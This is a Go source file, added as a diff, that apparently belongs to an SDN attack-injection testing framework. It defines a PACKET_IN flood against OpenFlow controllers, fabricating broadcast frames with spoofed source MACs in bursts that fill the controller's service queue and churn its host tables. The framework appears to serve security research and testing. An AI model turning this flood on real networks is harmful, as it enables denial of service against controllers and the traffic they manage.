@@ -1,0 +1,90 @@
+package topo
+
+import (
+	"fmt"
+
+	"attain/internal/core/lang"
+	"attain/internal/core/model"
+	"attain/internal/openflow"
+)
+
+// Packet-injection flood family (Phu et al.'s attack class): the injector
+// fabricates bursts of PACKET_IN frames toward the controller, saturating
+// its service queue with events for traffic no switch ever saw. Burst and
+// pacing are knobs; the control channel's own heartbeat paces the storm so
+// the rate stays deterministic under the virtual clock.
+
+// TemplatePktInFlood names the injector template carrying one fabricated
+// flood PACKET_IN.
+const TemplatePktInFlood = "pktin_flood"
+
+// DefaultFloodBurst is the number of PACKET_INs fabricated per heartbeat
+// per victim connection when FloodConfig.Burst is unset.
+const DefaultFloodBurst = 8
+
+// FloodTemplates builds the per-experiment injector vocabulary for the
+// flood: a PACKET_IN claiming an unsolicited 128-byte frame arrived on
+// port 1 of the victim. The payload is a broadcast Ethernet frame from a
+// locally-administered source MAC derived from the graph seed, so
+// MAC-learning controllers also churn their host tables while the service
+// queue fills.
+func FloodTemplates(g *Graph) map[string]func() openflow.Message {
+	seed := byte(g.Seed)
+	return map[string]func() openflow.Message{
+		TemplatePktInFlood: func() openflow.Message {
+			frame := make([]byte, 128)
+			// Broadcast destination, locally-administered unicast source.
+			for i := 0; i < 6; i++ {
+				frame[i] = 0xff
+			}
+			copy(frame[6:12], []byte{0x0a, 0xf1, 0x00, 0x0d, seed, 0x01})
+			frame[12], frame[13] = 0x08, 0x00
+			return &openflow.PacketIn{
+				BufferID: openflow.NoBuffer,
+				TotalLen: uint16(len(frame)),
+				InPort:   1,
+				Reason:   openflow.PacketInReasonNoMatch,
+				Data:     frame,
+			}
+		},
+	}
+}
+
+// PktInFloodAttack builds the flood description: on each victim
+// connection, every switch-to-controller ECHO_REQUEST passes through and
+// additionally triggers a burst of fabricated PACKET_INs toward the
+// controller. With the default 500ms heartbeat and burst 8, each victim
+// contributes 16 bogus events/s of virtual time — scale the burst (or the
+// victim set) to scale the storm.
+func PktInFloodAttack(sys *model.System, victims []model.Conn, burst int) *lang.Attack {
+	if len(victims) == 0 {
+		victims = append([]model.Conn(nil), sys.ControlPlane...)
+	}
+	if burst <= 0 {
+		burst = DefaultFloodBurst
+	}
+	actions := make([]lang.Action, 0, burst+1)
+	actions = append(actions, lang.PassMessage{})
+	for i := 0; i < burst; i++ {
+		actions = append(actions, lang.InjectMessage{
+			Template:  TemplatePktInFlood,
+			Direction: lang.SwitchToController,
+		})
+	}
+	a := lang.NewAttack(fmt.Sprintf("pktin-flood-x%d", burst), "sigma1")
+	a.AddState(&lang.State{
+		Name: "sigma1",
+		Rules: []*lang.Rule{{
+			Name:  "phi1",
+			Conns: victims,
+			Caps:  model.AllCapabilities,
+			Cond: lang.Cmp{
+				Op: lang.OpEq,
+				L:  lang.Prop{Name: lang.PropType},
+				R:  lang.Lit{Value: "ECHO_REQUEST"},
+			},
+			Actions: actions,
+		}},
+	})
+	return a
+}
